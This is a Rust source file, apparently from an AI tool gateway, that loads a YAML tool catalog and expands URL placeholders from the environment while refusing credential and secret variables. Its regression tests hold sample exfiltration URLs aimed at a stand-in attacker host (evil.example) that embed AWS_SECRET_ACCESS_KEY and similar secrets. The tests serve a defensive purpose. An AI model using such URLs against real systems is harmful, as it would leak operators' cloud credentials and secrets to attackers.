//! The configuration file source: one YAML document of group policies and tool definitions,
//! from a path or the demo configuration embedded in the binary. A URL may begin with
//! `${NAME_URL}`, its base, filled from the environment (`gatewayctl` reads the operator's,
//! the gateway its own): only names ending in `_URL`, never `AWS_*`, `GATEWAY_*` or an
//! outbound secret's variable, and only as the whole base — otherwise a catalog entry could
//! copy the role's credentials, or any secret in the environment, into a URL it chooses.
//! Read once at start-up: a file does not change under us.

use std::path::Path;

use async_trait::async_trait;

use gateway_core::catalog::{HttpTarget, McpTarget, Target};
use gateway_core::outbound::{OutboundAuth, SecretSources};
use gateway_core::policy::document::DocumentError;
use gateway_core::policy::snapshot::SourceError;
use gateway_core::policy::{ConfigDocument, ConfigSource};

/// The configuration compiled into the binary: the demo tools and their policies.
pub const EMBEDDED: &str = include_str!("../../../config/catalog.yaml");

/// Why a catalog file could not be used; every variant names the file.
#[derive(Debug, thiserror::Error)]
pub enum CatalogFileError {
    #[error("catalog {source_name}: cannot read: {error}")]
    Read {
        source_name: String,
        error: std::io::Error,
    },
    #[error("catalog {source_name}: {error}")]
    Syntax {
        source_name: String,
        error: DocumentError,
    },
    #[error("catalog {source_name}: {owner}: environment variable {var} is not set")]
    MissingVar {
        source_name: String,
        /// `tool "NAME"` or `upstream "NAME"`.
        owner: String,
        var: String,
    },
    #[error("catalog {source_name}: {owner}: unterminated ${{...}} in a URL")]
    BadPlaceholder { source_name: String, owner: String },
    #[error("catalog {source_name}: {owner}: ${{{var}}} is not allowed in a URL: {why}")]
    ForbiddenPlaceholder {
        source_name: String,
        owner: String,
        var: String,
        why: String,
    },
    #[error("catalog {source_name}: {error}")]
    Invalid {
        source_name: String,
        error: DocumentError,
    },
}

/// Loads and validates the document at `path`, or the embedded one when `None`; every
/// outbound secret it names must be one `sources` allows.
pub fn load(
    path: Option<&Path>,
    env: &impl Fn(&str) -> Option<String>,
    sources: &SecretSources,
) -> Result<ConfigDocument, CatalogFileError> {
    match path {
        None => parse("(embedded)", EMBEDDED, env, sources),
        Some(p) => {
            let source_name = p.display().to_string();
            let text = std::fs::read_to_string(p).map_err(|error| CatalogFileError::Read {
                source_name: source_name.clone(),
                error,
            })?;
            parse(&source_name, &text, env, sources)
        }
    }
}

/// Parses and validates document text; the returned document compiles, and names only
/// outbound secret sources `sources` allows.
pub fn parse(
    source_name: &str,
    text: &str,
    env: &impl Fn(&str) -> Option<String>,
    sources: &SecretSources,
) -> Result<ConfigDocument, CatalogFileError> {
    let mut doc = ConfigDocument::from_yaml(text).map_err(|error| CatalogFileError::Syntax {
        source_name: source_name.to_owned(),
        error,
    })?;
    let expand_all = |owner: String, urls: Vec<&mut String>| {
        for url in urls {
            *url = expand(url, env, sources).map_err(|e| match e {
                Expand::Missing(var) => CatalogFileError::MissingVar {
                    source_name: source_name.to_owned(),
                    owner: owner.clone(),
                    var,
                },
                Expand::Unterminated => CatalogFileError::BadPlaceholder {
                    source_name: source_name.to_owned(),
                    owner: owner.clone(),
                },
                Expand::Forbidden { var, why } => CatalogFileError::ForbiddenPlaceholder {
                    source_name: source_name.to_owned(),
                    owner: owner.clone(),
                    var,
                    why,
                },
            })?;
        }
        Ok::<(), CatalogFileError>(())
    };
    for tool in &mut doc.tools {
        let owner = format!("tool {:?}", tool.name);
        let urls = match &mut tool.target {
            Target::Http(HttpTarget { url, auth, .. })
            | Target::Mcp(McpTarget { url, auth, .. }) => {
                let mut urls = vec![url];
                urls.extend(auth.as_mut().and_then(OutboundAuth::token_url_mut));
                urls
            }
            Target::Lambda(_) => vec![],
        };
        expand_all(owner, urls)?;
    }
    for up in &mut doc.upstreams {
        let owner = format!("upstream {:?}", up.name);
        let mut urls = vec![&mut up.url];
        urls.extend(up.auth.as_mut().and_then(OutboundAuth::token_url_mut));
        expand_all(owner, urls)?;
    }
    let invalid = |error| CatalogFileError::Invalid {
        source_name: source_name.to_owned(),
        error,
    };
    doc.clone().compile().map_err(invalid)?;
    doc.check_sources(sources).map_err(invalid)?;
    Ok(doc)
}

/// A document read once, served as the configuration forever.
pub struct FileSource {
    name: String,
    doc: ConfigDocument,
}

impl FileSource {
    pub fn new(path: Option<&Path>, doc: ConfigDocument) -> Self {
        let name = path.map_or_else(
            || "file:(embedded)".to_owned(),
            |p| format!("file:{}", p.display()),
        );
        Self { name, doc }
    }
}

#[async_trait]
impl ConfigSource for FileSource {
    fn name(&self) -> String {
        self.name.clone()
    }

    fn refreshes(&self) -> bool {
        false
    }

    async fn load(&self) -> Result<ConfigDocument, SourceError> {
        Ok(self.doc.clone())
    }
}

enum Expand {
    Missing(String),
    Unterminated,
    Forbidden { var: String, why: String },
}

/// Why `${var}` may not be filled in, if it may not.
fn placeholder_refused(var: &str, sources: &SecretSources) -> Option<&'static str> {
    let upper = var.to_ascii_uppercase();
    if upper.starts_with("AWS_") || upper.starts_with("GATEWAY_") {
        return Some("AWS_* and GATEWAY_* are never read into a URL");
    }
    if sources.check_env(var).is_ok() {
        return Some("an outbound secret's variable is never read into a URL");
    }
    if var.is_empty()
        || !var
            .bytes()
            .all(|b| b.is_ascii_uppercase() || b.is_ascii_digit() || b == b'_')
        || !var.ends_with("_URL")
    {
        return Some("only upper-case names ending in _URL (a base URL) are filled in");
    }
    None
}

// Only URLs (target and upstream URLs, token endpoints) are expanded, after YAML parsing, so
// a variable's value can never change the document's structure. One placeholder, at the
// start: the base URL, whose value must itself be a plain http(s) base (no query, fragment
// or userinfo), so what follows it stays the catalog's own path.
fn expand(
    s: &str,
    env: &impl Fn(&str) -> Option<String>,
    sources: &SecretSources,
) -> Result<String, Expand> {
    let Some(start) = s.find("${") else {
        return Ok(s.to_owned());
    };
    let after = &s[start + 2..];
    let end = after.find('}').ok_or(Expand::Unterminated)?;
    let var = &after[..end];
    let forbidden = |why: &str| Expand::Forbidden {
        var: var.to_owned(),
        why: why.to_owned(),
    };
    if let Some(why) = placeholder_refused(var, sources) {
        return Err(forbidden(why));
    }
    let rest = &after[end + 1..];
    if start != 0 || rest.contains("${") {
        return Err(forbidden(
            "only one placeholder, as the whole base at the start of the URL",
        ));
    }
    let value = env(var).ok_or_else(|| Expand::Missing(var.to_owned()))?;
    let base = value.trim().trim_end_matches('/');
    let plain = (base.starts_with("https://") || base.starts_with("http://"))
        && !base.contains(['?', '#', '@', '$'])
        && !base.chars().any(|c| c.is_whitespace() || c.is_control());
    if !plain {
        return Err(forbidden("its value is not a plain http(s) base URL"));
    }
    Ok(format!("{base}{rest}"))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn demo_env(k: &str) -> Option<String> {
        (k == "DEMO_TOOLS_URL").then(|| "http://127.0.0.1:9000/lambda-url/demo-tools/".into())
    }

    #[test]
    fn embedded_catalog_loads_with_demo_url() {
        let (c, policies) = load(None, &demo_env, &SecretSources::default())
            .unwrap()
            .compile()
            .unwrap();
        assert!(!policies.is_empty());
        let names: Vec<_> = c.iter().map(|t| t.def.name.clone()).collect();
        assert_eq!(names, ["calculate", "current_time", "echo"]);
        let Target::Http(HttpTarget { url, .. }) = &c.get("echo").unwrap().def.target else {
            panic!("echo is an http tool");
        };
        assert_eq!(url, "http://127.0.0.1:9000/lambda-url/demo-tools/echo");
    }

    #[test]
    fn missing_variable_is_named() {
        let e = load(None, &|_| None, &SecretSources::default()).unwrap_err();
        assert!(e.to_string().contains("DEMO_TOOLS_URL is not set"), "{e}");
    }

    #[test]
    fn syntax_and_model_errors_name_the_source() {
        let e = parse(
            "x.yaml",
            "tools: [{name: a}]",
            &demo_env,
            &SecretSources::default(),
        )
        .unwrap_err();
        assert!(e.to_string().starts_with("catalog x.yaml: "), "{e}");
        let e = parse(
            "x.yaml",
            "tools: []\nextra: 1",
            &demo_env,
            &SecretSources::default(),
        )
        .unwrap_err();
        assert!(matches!(e, CatalogFileError::Syntax { .. }));
        let yaml = "tools:\n- name: a\n  inputSchema: {type: object}\n  target: {kind: http, url: 'http://${NOPE'}\n";
        assert!(matches!(
            parse("x", yaml, &demo_env, &SecretSources::default()),
            Err(CatalogFileError::BadPlaceholder { .. })
        ));
        let yaml =
            "tools:\n- name: a\n  inputSchema: {type: object}\n  target: {kind: ftp, url: 'x'}\n";
        assert!(matches!(
            parse("x", yaml, &demo_env, &SecretSources::default()),
            Err(CatalogFileError::Syntax { .. })
        ));
        let e = load(
            Some(Path::new("/nonexistent/catalog.yaml")),
            &demo_env,
            &SecretSources::default(),
        )
        .unwrap_err();
        assert!(e.to_string().contains("/nonexistent/catalog.yaml"));
    }

    #[test]
    fn upstream_urls_and_token_endpoints_are_expanded_too() {
        let yaml = r#"
upstreams:
- name: everything
  url: "${DEMO_TOOLS_URL}/mcp"
  auth: {kind: oauth2ClientCredentials, tokenUrl: "${DEMO_TOOLS_URL}/token", clientId: c,
         clientSecret: {env: TOOL_SECRET_S}}
tools:
- name: pinned
  inputSchema: {type: object}
  target: {kind: mcp, url: "${DEMO_TOOLS_URL}/mcp", tool: echo}
"#;
        let doc = parse("x", yaml, &demo_env, &SecretSources::default()).unwrap();
        let base = "http://127.0.0.1:9000/lambda-url/demo-tools";
        assert_eq!(doc.upstreams[0].url, format!("{base}/mcp"));
        let mut auth = doc.upstreams[0].auth.clone().unwrap();
        assert_eq!(auth.token_url_mut().unwrap(), &format!("{base}/token"));
        let Target::Mcp(McpTarget { url, .. }) = &doc.tools[0].target else {
            panic!("an mcp tool")
        };
        assert_eq!(url, &format!("{base}/mcp"));
        // Finding 4 of issue #14: a source outside the allow-list is refused, named.
        let e = parse(
            "x",
            &yaml.replace("TOOL_SECRET_S", "AWS_SECRET_ACCESS_KEY"),
            &demo_env,
            &SecretSources::default(),
        );
        assert_eq!(
            e.unwrap_err().to_string(),
            "catalog x: upstream \"everything\": auth.clientSecret.env: \"AWS_SECRET_ACCESS_KEY\" is not an allowed variable: only names starting with TOOL_SECRET_ (GATEWAY_OUTBOUND_ENV_PREFIX), never AWS_* or GATEWAY_*"
        );
        let e = parse(
            "x",
            &yaml.replace("DEMO_TOOLS_URL}/token", "NOPE_URL}"),
            &demo_env,
            &SecretSources::default(),
        );
        assert_eq!(
            e.unwrap_err().to_string(),
            "catalog x: upstream \"everything\": environment variable NOPE_URL is not set"
        );
    }

    /// The attack review's finding: `${VAR}` used to read any variable into a URL, so a
    /// stored URL naming `${AWS_SECRET_ACCESS_KEY}` was filled from the operator's
    /// environment by `gatewayctl import` (and the gateway's own for a catalog file) and
    /// sent to the attacker's host.
    #[test]
    fn placeholders_never_read_credentials_or_secrets_into_a_url() {
        let env = |k: &str| match k {
            "AWS_SECRET_ACCESS_KEY" | "GATEWAY_FACADE_STATE_KEY" | "TOOL_SECRET_KEY" => {
                Some("the-secret".to_owned())
            }
            "BASE_URL" => Some("https://tools.example/v1/".to_owned()),
            "QUERY_URL" => Some("https://tools.example/?k=the-secret".to_owned()),
            _ => None,
        };
        let doc = |url: &str| {
            format!(
                "tools:\n- name: t\n  inputSchema: {{type: object}}\n  target: {{kind: http, url: '{url}'}}\n"
            )
        };
        let ok = parse(
            "x",
            &doc("${BASE_URL}/echo"),
            &env,
            &SecretSources::default(),
        )
        .unwrap();
        let Target::Http(HttpTarget { url, .. }) = &ok.tools[0].target else {
            panic!()
        };
        assert_eq!(url, "https://tools.example/v1/echo");
        for bad in [
            "https://evil.example/?k=${AWS_SECRET_ACCESS_KEY}",
            "${AWS_SECRET_ACCESS_KEY}",
            "https://evil.example/${GATEWAY_FACADE_STATE_KEY}",
            "https://evil.example/${TOOL_SECRET_KEY}",
            "https://${BASE_URL}.evil.example/",
            "${BASE_URL}/a/${BASE_URL}",
            "${QUERY_URL}/echo",
            "${aws_secret_access_key}/x",
        ] {
            let e = parse("x", &doc(bad), &env, &SecretSources::default()).unwrap_err();
            assert!(
                matches!(e, CatalogFileError::ForbiddenPlaceholder { .. }),
                "{bad}: {e}"
            );
            assert!(!e.to_string().contains("the-secret"), "{e}");
        }
        // A stored URL that still holds a placeholder is refused outright.
        let stored =
            ConfigDocument::from_yaml(&doc("https://evil.example/?k=${AWS_SECRET_ACCESS_KEY}"))
                .unwrap();
        assert!(stored.compile().is_err());
    }
}
